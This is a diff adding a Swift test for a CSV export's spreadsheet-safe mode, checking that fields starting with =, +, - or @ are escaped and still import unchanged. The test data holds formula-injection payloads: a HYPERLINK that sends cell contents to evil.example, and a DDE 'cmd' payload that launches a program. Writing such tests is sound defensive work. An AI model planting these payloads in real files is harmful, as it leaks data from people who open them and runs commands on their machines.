@@ -153,6 +153,38 @@ struct BulkExportTests {
         }
     }
 
+    /// A spreadsheet-safe CSV starts every field a spreadsheet would run as a formula with an apostrophe (a name
+    /// `=HYPERLINK(...)` was a live link in the console's download; found by a probe), and imports back as it was.
+    @Test(arguments: StoreKind.allCases)
+    func aSpreadsheetSafeExportRunsNoFormulaAndImportsAsItWas(_ kind: StoreKind) async throws {
+        try await TestDatabase.with(kind) { rt in
+            let t = try await rt.makeTenant().slug
+            let s = rt.services
+            let link = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
+            _ = try await s.parties.create(tenant: t, PartyInput(kind: .organization, name: link, note: "+cmd|' /C calc'!A0",
+                                                                 properties: ["sum": .string("@SUM(1+1)"), "dash": .string("-1"),
+                                                                              "plain": .string("'quoted")]), context: .test)
+            _ = try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "-Ann", email: "-ann@farm.example"), context: .test)
+            let plain = try await Self.text(s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: .test))
+            #expect(plain.contains("\"" + link.replacingOccurrences(of: "\"", with: "\"\"") + "\""), "as stored, unless asked")
+            let safe = try await Self.text(s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv, spreadsheetSafe: true),
+                                                                   context: .test))
+            let fields = safe.split(separator: "\n").dropFirst().flatMap { $0.split(separator: ",", omittingEmptySubsequences: false) }
+            for field in fields {
+                let text = field.hasPrefix("\"") ? field.dropFirst() : field
+                #expect(!(text.first.map { "=+-@".contains($0) } ?? false), "\(field) starts a formula")
+            }
+            #expect(safe.contains("'-Ann") && safe.contains("'@SUM(1+1)") && safe.contains(",'quoted"), "\(safe)")
+            let rows = try Self.importRows(Array(safe.utf8), format: .csv)
+            #expect(rows.allSatisfy { $0.problems.isEmpty })
+            let copy = try await rt.makeTenant().slug
+            let report = try await s.imports.run(tenant: copy, digest: nil, onDuplicate: .fail, context: .test, next: Self.rows(rows))
+            #expect(report.created == 2 && report.refused == 0, "\(report.errors)")
+            let copied = try await Self.text(s.exports.exportParties(tenant: copy, PartiesExportOptions(format: .csv), context: .test))
+            #expect(Set(copied.split(separator: "\n").dropFirst()) == Set(plain.split(separator: "\n").dropFirst()), "\(copied)")
+        }
+    }
+
     /// A scoped caller exports its subtree only; a caller without parties.read, or of another tenant, gets nothing.
     @Test(arguments: StoreKind.allCases)
     func aScopedCallerExportsItsSubtree(_ kind: StoreKind) async throws {
